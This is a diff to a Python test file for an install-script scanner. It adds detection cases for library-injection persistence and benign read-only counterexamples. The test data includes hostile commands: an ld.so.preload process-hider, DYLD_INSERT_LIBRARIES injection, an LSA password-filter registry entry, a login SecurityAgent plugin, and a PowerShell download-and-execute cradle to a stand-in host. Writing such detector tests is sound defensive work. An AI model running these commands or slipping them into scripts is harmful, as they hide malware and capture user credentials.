@@ -379,6 +379,14 @@ def test_shell_file_variables_set_to_a_constant_are_expanded():
     ("npm install -g openclaw@latest", "install-script/global-install"),
     ("yarn global add some-cli", "install-script/global-install"),
     ("powershell -NoP -C \"IEX ((New-Object Net.WebClient).DownloadString('https://x.example/s'))\"", "install-script/fetch-and-execute"),
+    ("echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload", "install-script/library-injection"),
+    ("/usr/libexec/PlistBuddy -c \"Add :LSEnvironment:DYLD_INSERT_LIBRARIES string @executable_path/../Frameworks/l.dylib\" "
+     "/Applications/iTerm.app/Contents/Info.plist", "install-script/library-injection"),
+    ("launchctl setenv DYLD_INSERT_LIBRARIES /tmp/l.dylib", "install-script/library-injection"),
+    ("reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v \"Notification Packages\" /t REG_MULTI_SZ /d scecli\\0pwf /f",
+     "install-script/library-injection"),
+    ("cp -R bundle/Banner.bundle /Library/Security/SecurityAgentPlugins/ && security authorizationdb write system.login.console < r.plist",
+     "install-script/library-injection"),
 ])
 def test_persistence_global_installs_and_download_cradles(command, rule):
     assert rule in rules(artifact({"postinstall": command}))
@@ -389,11 +397,14 @@ def test_persistence_global_installs_and_download_cradles(command, rule):
                                      "pm2 start ecosystem.config.js", "networksetup -getautoproxyurl Wi-Fi",
                                      "ls /etc/apt/apt.conf.d", "bitsadmin /list /allusers",
                                      "gsettings get org.gnome.system.proxy mode",
-                                     "reg query \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\" /v ProxyServer"])
+                                     "reg query \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\" /v ProxyServer",
+                                     "cat /etc/ld.so.preload", "security authorizationdb read system.login.console",
+                                     "reg query HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v \"Security Packages\"",
+                                     "ls /Library/Security/SecurityAgentPlugins"])
 def test_reading_cron_dns_and_proxy_settings_is_not_changing_them(command):
     found = rules(artifact({"postinstall": command}))
     assert not {"install-script/scheduled-task", "install-script/dns-tamper", "install-script/proxy-tamper",
-                "install-script/credential-dump"} & found
+                "install-script/credential-dump", "install-script/library-injection"} & found
 
 
 def test_harmless_inline_code_beside_a_batch_file_does_not_hide_the_file():
